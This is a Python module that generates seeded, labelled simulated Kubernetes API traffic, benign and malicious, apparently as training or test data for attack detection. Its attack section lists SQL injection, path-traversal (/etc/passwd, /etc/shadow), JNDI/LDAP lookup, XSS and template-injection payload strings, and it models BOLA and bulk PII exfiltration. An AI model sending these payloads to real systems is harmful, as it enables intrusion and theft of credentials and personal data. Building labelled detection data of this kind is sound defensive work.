"""Simulated cluster traffic: a seeded, labelled generator of east-west API calls.

``ClusterSimulator`` models a small shop running on Kubernetes: five
namespaces (``shop``, ``payments``, ``identity``, ``data``, ``ml``), eighteen
services with an endpoint catalog, end users calling through the gateway
workload ``shop/frontend`` (JWT, one principal per user, each user owning a few
objects), service-to-service calls along a fixed dependency graph (mTLS, no
principal), the ``data/reporting`` batch job reading pages of PII at a steady
rate, support agents reading other users' objects, partner webhooks from the
internet, and ordinary errors (404, 5xx, mistyped passwords). ``AttackPlan``
adds labelled attackers (``ATTACK_KINDS``); every call carries its ground truth.

Everything is drawn from ``random.Random`` instances seeded from ``seed``, so a
simulator with the same arguments yields the same calls. Generation is plain
Python on ``__slots__`` objects (no pydantic) for speed; ``SimCall.to_row`` is
the matching fast path to Arrow rows. The only I/O is in ``write_jsonl`` and
``write_parquet``.
"""

from __future__ import annotations

import enum
import hashlib
import heapq
import math
import random
from bisect import bisect_right
from collections.abc import Callable, Iterable, Iterator, Sequence
from dataclasses import dataclass, field
from operator import attrgetter
from pathlib import Path
from typing import Any

from ingest.errors import SettingsError
from ingest.envelope import row_to_summary
from ingest.schema import SCHEMA_VERSION, RequestSummary

__all__ = [
    "ATTACK_KINDS",
    "AttackPlan",
    "ClusterSimulator",
    "Endpoint",
    "Service",
    "SimCall",
    "plan_attacks",
    "write_jsonl",
    "write_parquet",
]

ATTACK_KINDS: tuple[str, ...] = (
    "bola",
    "exfiltration",
    "credential_stuffing",
    "injection",
    "retired_api",
    "lateral_movement",
)

# calls/s of one attacker instance, drawn uniformly in these bounds by ``plan_attacks``
_ATTACK_RATES: dict[str, tuple[float, float]] = {
    "bola": (15.0, 25.0),
    "exfiltration": (10.0, 20.0),
    "credential_stuffing": (20.0, 40.0),
    "injection": (3.0, 5.0),
    "retired_api": (2.0, 5.0),
    "lateral_movement": (2.0, 5.0),
}


class _Keep(enum.Enum):
    """Sentinel: keep the call's own value (``None`` is a meaningful status)."""

    KEEP = "keep"


# ---------------------------------------------------------------- records


@dataclass(slots=True)
class SimCall:
    """One simulated L7 call with raw object ids and its ground-truth labels."""

    time: float
    source_workload: str | None
    source_namespace: str | None
    source_ip: str
    external: bool
    principal: str | None
    auth_type: str
    dest_service: str
    dest_namespace: str | None
    dest_external: bool
    method: str
    path_template: str
    raw_path: str
    object_ids: list[str]
    status: int
    request_bytes: int
    response_bytes: int
    sensitive: dict[str, int]
    duration_ms: float
    scenario: str = "benign"
    attack_id: str | None = None
    malicious: bool = False

    @property
    def actor(self) -> str:
        """The actor key, equal to ``ingest.schema.actor_key(workload or ip, principal)``."""
        return f"{self.source_workload or self.source_ip}|{self.principal or '-'}"

    def hashed_ids(self, object_id_key: bytes) -> list[str]:
        """Keyed BLAKE2b (8 bytes, 16 hex chars) of each raw object id."""
        return [hashlib.blake2b(o.encode(), key=object_id_key, digest_size=8).hexdigest() for o in self.object_ids]

    def to_row(
        self,
        id: str,
        object_id_key: bytes,
        decision: str | None = None,
        reporter: str = "simulator",
        status: int | None | _Keep = _Keep.KEEP,
        response_bytes: int | None = None,
        sensitive: dict[str, int] | None = None,
        with_raw_path: bool = False,
    ) -> dict[str, Any]:
        """The ``RequestSummary.model_dump()`` dict built directly; ``sensitive`` as (key, value) pairs."""
        ext = self.dest_external
        return {
            "schema_version": SCHEMA_VERSION,
            "id": id,
            "time": self.time,
            "duration_ms": self.duration_ms,
            "reporter": reporter,
            "source": {"workload": self.source_workload, "namespace": self.source_namespace, "pod": None,
                       "ip": self.source_ip, "external": self.external},
            "principal": self.principal,
            "auth_type": self.auth_type,
            "destination": {"service": self.dest_service, "namespace": self.dest_namespace,
                            "host": self.dest_service if ext else None, "port": 443 if ext else None, "external": ext},
            "protocol": "http",
            "method": self.method,
            "path_template": self.path_template,
            "raw_path": self.raw_path if with_raw_path else None,
            "status": self.status if status is _Keep.KEEP else status,
            "request_bytes": self.request_bytes,
            "response_bytes": self.response_bytes if response_bytes is None else response_bytes,
            "object_ids": self.hashed_ids(object_id_key),
            "object_ids_created": [],
            "outcome": None,
            "sensitive": list((self.sensitive if sensitive is None else sensitive).items()),
            "inline_findings": [],
            "decision": decision,
            "mcp": None,
            "llm": None,
            "trace_id": None,
            "ground_truth": {"scenario": self.scenario, "attack_id": self.attack_id, "malicious": self.malicious},
        }

    def to_summary(
        self,
        id: str,
        object_id_key: bytes,
        decision: str | None = None,
        reporter: str = "simulator",
        status: int | None | _Keep = _Keep.KEEP,
        response_bytes: int | None = None,
        sensitive: dict[str, int] | None = None,
        with_raw_path: bool = False,
    ) -> RequestSummary:
        """The call as a ``RequestSummary``: object ids hashed, raw path dropped unless asked for."""
        return row_to_summary(self.to_row(id, object_id_key, decision, reporter, status, response_bytes, sensitive, with_raw_path))


@dataclass(frozen=True)
class AttackPlan:
    """One attacker instance: its kind, id, start (s after the run start), length and call rate."""

    kind: str
    attack_id: str
    start: float
    duration_s: float
    rate_eps: float

    def __post_init__(self) -> None:
        if self.kind not in ATTACK_KINDS:
            raise SettingsError(f"AttackPlan.kind={self.kind!r} is not one of {ATTACK_KINDS}")
        if self.rate_eps <= 0 or self.duration_s <= 0:
            raise SettingsError(f"AttackPlan {self.attack_id!r}: rate_eps and duration_s must be > 0")


@dataclass(frozen=True, slots=True)
class Endpoint:
    """One route of a service: its object kind (the ``{id}`` in the template), sizes and PII profile.

    ``items`` > 1 marks a page endpoint returning that many records (sizes and
    sensitive counts are per record). ``namespace`` is ``None`` for hosts
    outside the cluster.
    """

    service: str
    namespace: str | None
    method: str
    template: str
    kind: str | None = None
    response_bytes: int = 800
    latency_ms: float = 15.0
    items: int = 1
    retired: bool = False
    ok_status: int = 200
    request_bytes: int = 0
    sensitive: tuple[tuple[str, int], ...] = ()
    prefix: str = field(init=False)
    suffix: str = field(init=False)

    def __post_init__(self) -> None:
        head, _, tail = self.template.partition("{")
        object.__setattr__(self, "prefix", head)
        object.__setattr__(self, "suffix", tail.partition("}")[2] if tail else "")

    @property
    def external(self) -> bool:
        """True for a host outside the cluster."""
        return self.namespace is None

    @property
    def key(self) -> str:
        """The ``service METHOD /template`` form policies use."""
        return f"{self.service} {self.method} {self.template}"


@dataclass(frozen=True, slots=True)
class Service:
    """A destination: in-cluster service (``namespace/name``) or external host, with its endpoints."""

    namespace: str | None
    name: str
    endpoints: tuple[Endpoint, ...]

    @property
    def qualified(self) -> str:
        """``namespace/name``, or the bare host name for an external service."""
        return f"{self.namespace}/{self.name}" if self.namespace else self.name


# ---------------------------------------------------------------- the cluster


def _ep(qualified: str, method: str, template: str, kind: str | None = None, size: int = 800, lat: float = 15.0,
        items: int = 1, retired: bool = False, ok: int = 200, req: int = 0, **sensitive: int) -> Endpoint:
    namespace, _, name = qualified.rpartition("/")
    return Endpoint(name, namespace or None, method, template, kind, size, lat, items, retired, ok, req,
                    tuple(sensitive.items()))


_ENDPOINTS: tuple[Endpoint, ...] = (
    _ep("shop/catalog", "GET", "/products", size=6400, lat=12),
    _ep("shop/catalog", "GET", "/search", size=5200, lat=28),
    _ep("shop/orders", "GET", "/orders/{id}", "order", 1800, 18, address=1),
    _ep("shop/orders", "GET", "/orders", "order", 1500, 25, address=1),
    _ep("shop/orders", "POST", "/orders", "order", 900, 45, ok=201, req=1400),
    _ep("shop/orders", "GET", "/orders/{id}/items", "order", 2600, 20),
    _ep("shop/orders", "GET", "/orders/export", "order", 1800, 60, items=50, address=1),
    _ep("shop/orders", "GET", "/internal/debug/vars", None, 14000, 3, retired=True, secret=2),
    _ep("shop/carts", "GET", "/carts/{id}", "cart", 1300, 8),
    _ep("shop/carts", "PUT", "/carts/{id}/items", "cart", 450, 14, req=350),
    _ep("shop/notifications", "POST", "/notifications/email", None, 150, 30, ok=202, req=900),
    _ep("payments/checkout", "POST", "/checkout", None, 1500, 180, req=1200, card_last4=1),
    _ep("payments/checkout", "POST", "/webhooks/psp", None, 60, 12, req=2200),
    _ep("payments/payment-methods", "GET", "/payment-methods", "payment_method", 500, 10, card_last4=1),
    _ep("payments/payment-methods", "GET", "/payment-methods/{id}", "payment_method", 600, 9, card_last4=1),
    _ep("payments/invoices", "GET", "/invoices/{id}", "invoice", 2200, 16, address=2, name=1),
    _ep("payments/invoices", "GET", "/invoices/{id}/pdf", "invoice", 48000, 90, address=2, name=1),
    _ep("payments/invoices", "GET", "/invoices/export", "invoice", 2000, 70, items=50, address=2, name=1),
    _ep("payments/invoices", "GET", "/v1/invoices/{id}", "invoice", 2100, 20, retired=True, address=2, name=1),
    _ep("payments/ledger", "POST", "/ledger/entries", None, 250, 9, ok=201, req=500),
    _ep("payments/ledger", "GET", "/ledger/accounts/{id}", "account", 800, 7),
    _ep("payments/ledger-admin", "GET", "/admin/balances", None, 9000, 40),
    _ep("payments/ledger-admin", "POST", "/admin/adjustments", None, 300, 25, req=400),
    _ep("identity/auth", "POST", "/login", None, 700, 60, req=300),
    _ep("identity/auth", "POST", "/token/refresh", None, 650, 8, req=900),
    _ep("identity/auth", "POST", "/introspect", None, 300, 3, req=900),
    _ep("identity/profiles", "GET", "/profiles/{id}", "profile", 1100, 9, email=1, phone=1, address=1),
    _ep("identity/profiles", "PATCH", "/profiles/{id}", "profile", 1100, 22, req=400, email=1, phone=1),
    _ep("identity/profiles", "GET", "/profiles/{id}/contact", "profile", 400, 5, email=1, phone=1),
    _ep("identity/profiles", "GET", "/profiles", "profile", 900, 55, items=50, email=1, phone=1),
    _ep("identity/profiles", "GET", "/customers/{id}/export", "profile", 1500, 150, email=1, phone=1),
    _ep("identity/profiles", "GET", "/v1/users/{id}", "profile", 1300, 10, retired=True, email=1, phone=1, ssn=1),
    _ep("identity/accounts", "GET", "/accounts/{id}", "account", 700, 6, email=1),
    _ep("identity/accounts", "GET", "/v1/admin/export", None, 250000, 900, retired=True, email=200, phone=200),
    _ep("identity/secrets-broker", "GET", "/secrets/{name}", "secret", 500, 4, secret=1),
    _ep("data/documents", "GET", "/documents/{id}", "document", 30000, 35, name=1),
    _ep("data/documents", "GET", "/documents/{id}/download", "document", 250000, 120, name=1, address=1),
    _ep("data/documents", "POST", "/documents", "document", 400, 80, ok=201, req=120000),
    _ep("data/warehouse", "POST", "/ingest/events", None, 80, 6, ok=202, req=4000),
    _ep("data/warehouse", "POST", "/query", None, 24000, 400, req=600),
    _ep("ml/recommender", "GET", "/recommendations", None, 3200, 35),
    _ep("ml/fraud-scorer", "POST", "/score", None, 220, 14, req=1800),
    _ep("ml/feature-store", "GET", "/features/{id}", "account", 1500, 5),
    _ep("ml/feature-store", "POST", "/features/batch", None, 48000, 80, req=6000),
    _ep("api.psp.example.com", "POST", "/v1/charges", None, 700, 240, req=900),
    _ep("api.mailer.example.com", "POST", "/v3/mail/send", None, 150, 90, ok=202, req=3000),
)
_BY_KEY: dict[str, Endpoint] = {
    (f"{e.namespace}/{e.service}" if e.namespace else e.service) + f" {e.method} {e.template}": e for e in _ENDPOINTS
}
_PASTE = _ep("paste.example.net", "POST", "/api/pastes", None, 300, 350, ok=201, req=2_500_000)

# caller workload -> (weight in the service-to-service mix, endpoints it calls)
_CALLS: dict[str, tuple[float, tuple[str, ...]]] = {
    "shop/frontend": (5.0, ("ml/recommender GET /recommendations", "shop/catalog GET /products",
                            "identity/auth POST /introspect")),
    "shop/orders": (3.0, ("shop/catalog GET /products", "payments/invoices GET /invoices/{id}",
                          "shop/notifications POST /notifications/email", "data/warehouse POST /ingest/events")),
    "shop/carts": (2.0, ("shop/catalog GET /products", "ml/recommender GET /recommendations")),
    "payments/checkout": (1.5, ("payments/payment-methods GET /payment-methods/{id}",
                                "payments/ledger POST /ledger/entries", "ml/fraud-scorer POST /score",
                                "api.psp.example.com POST /v1/charges")),
    "payments/invoices": (1.5, ("identity/profiles GET /profiles/{id}/contact",
                                "payments/ledger GET /ledger/accounts/{id}")),
    "payments/ledger": (1.0, ("data/warehouse POST /ingest/events", "identity/accounts GET /accounts/{id}")),
    "identity/auth": (2.0, ("identity/accounts GET /accounts/{id}", "identity/secrets-broker GET /secrets/{name}")),
    "identity/profiles": (1.0, ("identity/accounts GET /accounts/{id}", "data/warehouse POST /ingest/events")),
    "shop/notifications": (1.0, ("identity/profiles GET /profiles/{id}/contact",
                                 "api.mailer.example.com POST /v3/mail/send")),
    "ml/recommender": (2.0, ("ml/feature-store GET /features/{id}", "shop/catalog GET /products")),
    "ml/fraud-scorer": (1.0, ("ml/feature-store GET /features/{id}", "identity/accounts GET /accounts/{id}")),
    "ml/notebook": (0.3, ("ml/feature-store POST /features/batch", "data/warehouse POST /query")),
    "data/reporting": (0.0, ("identity/profiles GET /profiles", "payments/invoices GET /invoices/export",
                             "shop/orders GET /orders/export", "data/warehouse POST /query")),
}

# end-user actions through the gateway: (endpoint, mode, weight, tasks it belongs to, query strings). A user
# works on one task (Shopping, Orders, Account, Documents) for a while, which keeps the objects touched few.
_USER_ACTIONS: tuple[tuple[str, str, float, str, tuple[str, ...]], ...] = (
    ("shop/catalog GET /products", "none", 14.0, "SO", ("?category=shoes", "?category=tents", "?sort=price", "")),
    ("shop/catalog GET /search", "none", 8.0, "S", ("?q=running+shoes", "?q=tent", "?q=coffee+grinder", "?q=gift")),
    ("shop/orders GET /orders/{id}", "own", 12.0, "O", ("", "", "", "?expand=items")),
    ("shop/orders GET /orders", "list", 4.0, "O", ("?page=1", "?status=open")),
    ("shop/orders GET /orders/{id}/items", "own", 5.0, "O", ("",)),
    ("shop/orders POST /orders", "create", 1.0, "S", ("",)),
    ("shop/carts GET /carts/{id}", "own", 10.0, "S", ("",)),
    ("shop/carts PUT /carts/{id}/items", "own", 6.0, "S", ("",)),
    ("payments/checkout POST /checkout", "none", 1.5, "S", ("",)),
    ("payments/payment-methods GET /payment-methods", "list", 2.0, "A", ("",)),
    ("payments/payment-methods GET /payment-methods/{id}", "own", 1.5, "A", ("",)),
    ("payments/invoices GET /invoices/{id}", "own", 4.0, "O", ("",)),
    ("payments/invoices GET /invoices/{id}/pdf", "own", 1.0, "O", ("",)),
    ("identity/auth POST /login", "login", 2.5, "SOAD", ("",)),
    ("identity/auth POST /token/refresh", "none", 5.0, "SOAD", ("",)),
    ("identity/profiles GET /profiles/{id}", "own", 7.0, "AD", ("",)),
    ("identity/profiles PATCH /profiles/{id}", "own", 0.5, "A", ("",)),
    ("identity/accounts GET /accounts/{id}", "own", 4.0, "A", ("",)),
    ("data/documents GET /documents/{id}", "own", 3.0, "D", ("",)),
    ("data/documents GET /documents/{id}/download", "own", 1.0, "D", ("",)),
    ("data/documents POST /documents", "create", 0.3, "D", ("",)),
)
_TASKS, _TASK_CUM, _TASK_SWITCH = "SOAD", (0.45, 0.70, 0.85, 1.0), 0.08
_AGENT_READS = ("identity/profiles GET /profiles/{id}", "identity/accounts GET /accounts/{id}",
                "shop/orders GET /orders/{id}", "payments/invoices GET /invoices/{id}")

_FIRST_ID = {"profile": 100000, "account": 200000, "order": 310000, "invoice": 520000, "cart": 640000,
             "document": 730000, "payment_method": 850000}
_SECRETS = ["jwt-signing-key", "db-password", "psp-api-key", "smtp-password", "kafka-sasl", "s3-credentials"]
_PARTNER_IPS = ("198.51.100.10", "198.51.100.11", "198.51.100.12")
_LATERAL_FROM = ("ml/recommender", "shop/carts", "shop/notifications", "ml/fraud-scorer")
_LATERAL_ALWAYS = ("identity/secrets-broker", "payments/ledger-admin")
_USER_SHARE, _PARTNER_SHARE, _REPORTING_SHARE = 0.69, 0.005, 0.001
_SESSION_S = 900.0  # a user logs in again only after this long
_MAX_ACTIVITY = 10.0  # cap of a user's lognormal activity weight (mean 1.65)


def _qualified(e: Endpoint) -> str:
    return f"{e.namespace}/{e.service}" if e.namespace else e.service


def _build_catalog() -> tuple[Service, ...]:
    grouped: dict[str, list[Endpoint]] = {}
    for e in _ENDPOINTS:
        grouped.setdefault(_qualified(e), []).append(e)
    return tuple(Service(es[0].namespace, es[0].service, tuple(es)) for es in grouped.values())


def _dependencies() -> dict[str, list[str]]:
    return {w: sorted({k.split(" ")[0] for k in keys}) for w, (_, keys) in _CALLS.items()}


# ---------------------------------------------------------------- per-run world


class _World:
    """Mutable state of one run: who owns which object ids, pod ips, agents' tickets."""

    __slots__ = ("rng", "principals", "owned", "focus", "task", "logged_in", "pool", "exists", "next_id", "user_cum",
                 "agents", "tickets", "ips")

    def __init__(self, seed: int, users: int) -> None:
        rng = random.Random(f"{seed}:world")
        self.rng = rng
        self.next_id = dict(_FIRST_ID)
        self.pool: dict[str, list[str]] = {k: [] for k in _FIRST_ID}
        self.pool["secret"] = list(_SECRETS)
        self.exists: set[str] = set()
        self.agents = {u for u in range(users) if rng.random() < 0.01} or {0}
        self.principals = [f"support-{u:05d}" if u in self.agents else f"user-{u:05d}" for u in range(users)]
        self.owned = [self._own(rng) for _ in range(users)]
        self.focus: list[dict[str, str]] = [{} for _ in range(users)]
        self.task = [bisect_right(_TASK_CUM, rng.random()) for _ in range(users)]
        self.logged_in = [-math.inf] * users
        self.tickets: dict[int, list[Any]] = {}
        weights = [1.0 if u in self.agents else min(rng.lognormvariate(0.0, 1.0), _MAX_ACTIVITY) for u in range(users)]
        self.user_cum = _cumulative(weights)
        self.ips = {w: [f"10.244.{i + 1}.{rng.randrange(2, 250)}" for _ in range(rng.randint(2, 3))]
                    for i, w in enumerate(sorted(_CALLS))}

    def new_id(self, kind: str) -> str:
        """Allocate the next id of a kind (dense sequences with small gaps, as databases do)."""
        n = self.next_id[kind] + 1 + int(self.rng.random() * 3)
        self.next_id[kind] = n
        oid = str(n)
        self.pool[kind].append(oid)
        self.exists.add(oid)
        return oid

    def _own(self, rng: random.Random) -> dict[str, list[str]]:
        counts = {"profile": 1, "account": 1, "cart": 1, "order": rng.choice((1, 1, 2, 2, 3, 4)),
                  "invoice": rng.choice((1, 1, 2, 3)), "payment_method": rng.choice((1, 1, 2)),
                  "document": rng.choice((1, 1, 2, 3))}
        return {kind: [self.new_id(kind) for _ in range(n)] for kind, n in counts.items()}

    def random_id(self, kind: str) -> str:
        """Any existing object of a kind (another user's, for services and agents)."""
        p = self.pool[kind]
        return p[int(self.rng.random() * len(p))]

    def page(self, kind: str, page: int, size: int) -> list[str]:
        """The ids on one page of a kind's listing."""
        p = self.pool[kind]
        start = (page * size) % max(1, len(p) - size)
        return p[start:start + size]


def _cumulative(weights: Sequence[float]) -> list[float]:
    out, acc = [], 0.0
    for w in weights:
        acc += w
        out.append(acc)
    return out


# ---------------------------------------------------------------- benign traffic


def _task_table(task: str) -> tuple[list[tuple[Endpoint, str, tuple[str, ...]]], list[float]]:
    rows = [(k, mode, wt, q) for k, mode, wt, tasks, q in _USER_ACTIONS if task in tasks]
    return [(_BY_KEY[k], mode, q) for k, mode, _, q in rows], _cumulative([wt for _, _, wt, _ in rows])


class _Benign:
    """The benign Poisson stream: users, support agents, services and partners."""

    __slots__ = ("w", "rng", "t0", "t1", "rate", "pending", "seq", "tasks", "callers", "caller_cum")

    def __init__(self, world: _World, seed: int, t0: float, t1: float, rate: float) -> None:
        self.w, self.rng, self.t0, self.t1, self.rate = world, random.Random(f"{seed}:benign"), t0, t1, rate
        self.pending: list[tuple[float, int, SimCall]] = []
        self.seq = 0
        self.tasks = [_task_table(task) for task in _TASKS]
        self.callers = [(w, [_BY_KEY[k] for k in keys]) for w, (wt, keys) in _CALLS.items() if wt > 0]
        self.caller_cum = _cumulative([wt for wt, _ in _CALLS.values() if wt > 0])

    def __iter__(self) -> Iterator[SimCall]:
        rng, pending, t1 = self.rng, self.pending, self.t1
        omega = 2 * math.pi / max(t1 - self.t0, 1e-9)
        t = self.t0
        while True:
            t += rng.expovariate(self.rate * (1.0 + 0.2 * math.sin(omega * (t - self.t0))))
            while pending and pending[0][0] <= t:
                call = heapq.heappop(pending)[2]
                if call.time < t1:
                    yield call
            if t >= t1:
                return
            yield self._next(t)

    def _next(self, t: float) -> SimCall:
        r = self.rng.random()
        if r < _USER_SHARE:
            u = bisect_right(self.w.user_cum, self.rng.random() * self.w.user_cum[-1])
            return self._agent(t, u) if u in self.w.agents else self._user(t, u)
        if r < _USER_SHARE + _PARTNER_SHARE:
            return self._partner(t)
        return self._service(t)

    def _user(self, t: float, u: int) -> SimCall:
        rng = self.rng
        task = self.w.task[u]
        if rng.random() < _TASK_SWITCH:
            task = self.w.task[u] = bisect_right(_TASK_CUM, rng.random())
        actions, cum = self.tasks[task]
        ep, mode, queries = actions[bisect_right(cum, rng.random() * cum[-1])]
        if mode == "login":
            return self._login(t, u)
        ids = self._user_ids(ep, mode, u)
        query = queries[int(rng.random() * len(queries))] if len(queries) > 1 else queries[0]
        raw = (ep.prefix + ids[0] + ep.suffix if ids and "{" in ep.template else ep.template) + query
        n = len(ids) if mode == "list" else 1
        return self._answer(t, "shop/frontend", self.w.principals[u], "jwt", ep, raw, ids, n)

    def _user_ids(self, ep: Endpoint, mode: str, u: int) -> list[str]:
        if mode == "none":
            return []
        pool = self.w.owned[u][ep.kind or ""]
        if mode == "list":
            return list(pool)
        if mode == "create":
            pool.append(self.w.new_id(ep.kind or ""))
            if len(pool) > 5:
                pool.pop(0)
            return [pool[-1]]
        focus = self.w.focus[u]
        oid = focus.get(ep.kind or "")
        if oid is None or self.rng.random() < 0.1:  # users stay on one order/document for a while
            oid = focus[ep.kind or ""] = pool[int(len(pool) * self.rng.random())]
        return [oid]

    def _agent(self, t: float, u: int) -> SimCall:
        """Support agents work a ticket: a few reads of one customer's objects, then the next."""
        w, rng = self.w, self.rng
        ticket = w.tickets.get(u)
        if ticket is None or (ticket[1] >= 3 and rng.random() < 0.2):
            ticket = w.tickets[u] = [w.owned[int(rng.random() * len(w.owned))], 0]
        ticket[1] += 1
        ep = _BY_KEY[_AGENT_READS[int(rng.random() * len(_AGENT_READS))]]
        oid = ticket[0][ep.kind or ""][0]
        return self._answer(t, "shop/frontend", w.principals[u], "jwt", ep, ep.prefix + oid + ep.suffix, [oid], 1)

    def _login(self, t: float, u: int) -> SimCall:
        """A login (a token refresh if the user logged in lately); 5% start with 1-3 mistyped passwords."""
        rng, principal = self.rng, self.w.principals[u]
        if t - self.w.logged_in[u] < _SESSION_S:
            return self._plain(t, "shop/frontend", principal, "jwt", _BY_KEY["identity/auth POST /token/refresh"], 200)
        ep = _BY_KEY["identity/auth POST /login"]
        failures = 1 + int(rng.random() * 3) if rng.random() < 0.05 else 0
        at = t
        for i in range(1, failures + 1):
            at += 2.0 + rng.random() * 6.0
            self._defer(self._plain(at, "shop/frontend", principal, "none", ep, 200 if i == failures else 401))
        self.w.logged_in[u] = at
        return self._plain(t, "shop/frontend", principal, "none", ep, 401 if failures else 200)

    def _defer(self, call: SimCall) -> None:
        self.seq += 1
        heapq.heappush(self.pending, (call.time, self.seq, call))

    def _service(self, t: float) -> SimCall:
        rng = self.rng
        workload, edges = self.callers[bisect_right(self.caller_cum, rng.random() * self.caller_cum[-1])]
        ep = edges[int(rng.random() * len(edges))]
        if ep.kind is None:
            return self._answer(t, workload, None, "mtls", ep, ep.template, [], 1)
        oid = self.w.random_id(ep.kind)
        return self._answer(t, workload, None, "mtls", ep, ep.prefix + oid + ep.suffix, [oid], 1)

    def _partner(self, t: float) -> SimCall:
        ep, rng = _BY_KEY["payments/checkout POST /webhooks/psp"], self.rng
        ip = _PARTNER_IPS[int(rng.random() * len(_PARTNER_IPS))]
        return _call(t, None, ip, True, None, "mtls", ep, ep.template, [], ep.ok_status, ep.request_bytes + 200,
                     ep.response_bytes, {}, ep.latency_ms * (0.5 + rng.expovariate(1.5)))

    def _answer(self, t: float, workload: str, principal: str | None, auth: str, ep: Endpoint, raw: str,
                ids: list[str], n: int) -> SimCall:
        """A benign answer: mostly the endpoint's success with its PII, ~1% 404, ~0.5% 5xx."""
        rng = self.rng
        r = rng.random()
        sens: dict[str, int]
        if r < 0.005:
            status, size, sens = (503 if r < 0.0025 else 500), 180, {}
        elif r < 0.015:
            status, size, sens = 404, 150, {}
        else:
            status, size = ep.ok_status, int(ep.response_bytes * n * (0.7 + 0.6 * rng.random()))
            sens = {k: v * n for k, v in ep.sensitive} if n != 1 else dict(ep.sensitive)
        ips = self.w.ips[workload]
        return _call(t, workload, ips[int(rng.random() * len(ips))], False, principal, auth, ep, raw, ids, status,
                     ep.request_bytes + 250 + int(rng.random() * 400), size, sens,
                     ep.latency_ms * (0.5 + rng.expovariate(1.5)))

    def _plain(self, t: float, workload: str, principal: str | None, auth: str, ep: Endpoint, status: int) -> SimCall:
        rng, ips = self.rng, self.w.ips[workload]
        return _call(t, workload, ips[int(rng.random() * len(ips))], False, principal, auth, ep, ep.template, [],
                     status, ep.request_bytes + 250, ep.response_bytes if status < 400 else 120, {},
                     ep.latency_ms * (0.5 + rng.expovariate(1.5)))


def _call(t: float, workload: str | None, ip: str, external: bool, principal: str | None, auth: str, ep: Endpoint,
          raw: str, ids: list[str], status: int, req: int, resp: int, sens: dict[str, int], ms: float,
          scenario: str = "benign", attack_id: str | None = None, malicious: bool = False) -> SimCall:
    ns = workload.partition("/")[0] if workload else None
    return SimCall(t, workload, ns, ip, external, principal, auth, ep.service, ep.namespace, ep.namespace is None,
                   ep.method, ep.template, raw, ids, status, req, resp, sens, ms, scenario, attack_id, malicious)


def _reporting(world: _World, seed: int, t0: float, t1: float, rate: float) -> Iterator[SimCall]:
    """The ``data/reporting`` batch job: pages of PII, round-robin over its endpoints, at a steady rate."""
    rng, ips = random.Random(f"{seed}:reporting"), world.ips["data/reporting"]
    edges = [_BY_KEY[k] for k in _CALLS["data/reporting"][1]]
    t, i = t0 + rng.random() / rate, 0
    while t < t1:
        ep = edges[i % len(edges)]
        ids = world.page(ep.kind, i // len(edges), ep.items) if ep.kind else []
        n = max(1, len(ids))
        raw = ep.template + (f"?page={i // len(edges)}&size={ep.items}" if ep.items > 1 else "")
        yield _call(t, "data/reporting", ips[i % len(ips)], False, None, "mtls", ep, raw, ids, ep.ok_status,
                    ep.request_bytes + 300, ep.response_bytes * n, {k: v * n for k, v in ep.sensitive},
                    ep.latency_ms * (0.8 + 0.4 * rng.random()))
        t += (0.9 + 0.2 * rng.random()) / rate
        i += 1


# ---------------------------------------------------------------- attacks

_SQLI = ("1%27%20OR%20%271%27%3D%271", "1 UNION SELECT username,password FROM users--",
         "%27%3B%20DROP%20TABLE%20orders%3B--", "1%20AND%20SLEEP%285%29", "1' AND 1=CONVERT(int,@@version)--")
_TRAVERSAL = ("../../../../etc/passwd", "..%2F..%2F..%2F..%2Fetc%2Fshadow", "....//....//....//etc/hosts",
              "%2e%2e%2f%2e%2e%2fproc%2fself%2fenviron")
_OTHER_PAYLOADS = ("%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.66%2Fa%7D", "<script>alert(document.cookie)</script>",
                   "%7B%7B7*7%7D%7D")


@dataclass(frozen=True, slots=True)
class _Attack:
    """What an attack generator needs: its plan, the world, its own rng and absolute time bounds."""

    plan: AttackPlan
    world: _World
    rng: random.Random
    start: float
    end: float
    principal: str
    index: int
    ordinal: int
    seed: int

    def ticks(self) -> Iterator[float]:
        """Poisson arrival times of the attacker's calls inside its window."""
        rate, t = self.plan.rate_eps, self.start
        while True:
            t += self.rng.expovariate(rate)
            if t >= self.end:
                return
            yield t

    def call(self, t: float, workload: str | None, ip: str, principal: str | None, auth: str, ep: Endpoint,
             raw: str, ids: list[str], status: int, resp: int, sens: dict[str, int], malicious: bool = True,
             req: int | None = None) -> SimCall:
        """One labelled attacker call."""
        ms = ep.latency_ms * (0.5 + self.rng.expovariate(1.5))
        return _call(t, workload, ip, workload is None, principal, auth, ep, raw, ids, status,
                     ep.request_bytes + 300 if req is None else req, resp, sens, ms, self.plan.kind,
                     self.plan.attack_id, malicious)

    def gateway(self, t: float, ep: Endpoint, raw: str, ids: list[str], status: int, resp: int,
                sens: dict[str, int], malicious: bool = True) -> SimCall:
        """A call by the attacker's own user principal through ``shop/frontend``."""
        ips = self.world.ips["shop/frontend"]
        return self.call(t, "shop/frontend", ips[self.index % len(ips)], self.principal, "jwt", ep, raw, ids,
                         status, resp, sens, malicious)


def _bola(a: _Attack) -> list[SimCall]:
    """Walk ids upward from a real order/invoice: 404 for gaps, mostly 403, ~30% leaked with PII."""
    w, rng = a.world, a.rng
    cursor = {"order": int(w.random_id("order")), "invoice": int(w.random_id("invoice"))}
    out = []
    for t in a.ticks():
        kind = "order" if rng.random() < 0.8 else "invoice"
        cursor[kind] += 1
        oid = str(cursor[kind])
        ep = _BY_KEY["shop/orders GET /orders/{id}" if kind == "order" else "payments/invoices GET /invoices/{id}"]
        if oid not in w.exists:
            status, resp, sens = 404, 150, {}
        elif rng.random() < 0.3:
            status, resp, sens = 200, ep.response_bytes, {**dict(ep.sensitive), "email": 1}
        else:
            status, resp, sens = 403, 160, {}
        out.append(a.gateway(t, ep, ep.prefix + oid + ep.suffix, [oid], status, resp, sens))
    return out


def _exfiltration(a: _Attack) -> list[SimCall]:
    """Stolen JWT replayed from ``ml/notebook``: bulk profile pages and exports, then uploads to a paste site."""
    w, rng = a.world, a.rng
    ip = w.ips["ml/notebook"][0]
    pages, export = _BY_KEY["identity/profiles GET /profiles"], _BY_KEY["identity/profiles GET /customers/{id}/export"]
    page = rng.randrange(0, 40)
    out = []
    for t in a.ticks():
        if rng.random() < 0.65:
            page += 1
            ids, raw = w.page("profile", page, pages.items), f"/profiles?page={page}&size={pages.items}"
            sens = {"email": len(ids), "phone": len(ids)}
            out.append(a.call(t, "ml/notebook", ip, a.principal, "jwt", pages, raw, ids, 200, 900 * len(ids), sens))
        else:
            oid, k = w.random_id("profile"), rng.randint(20, 50)
            sens = {"email": k, "phone": k, "address": 1}
            out.append(a.call(t, "ml/notebook", ip, a.principal, "jwt", export, export.prefix + oid + export.suffix,
                              [oid], 200, 1500 * k, sens))
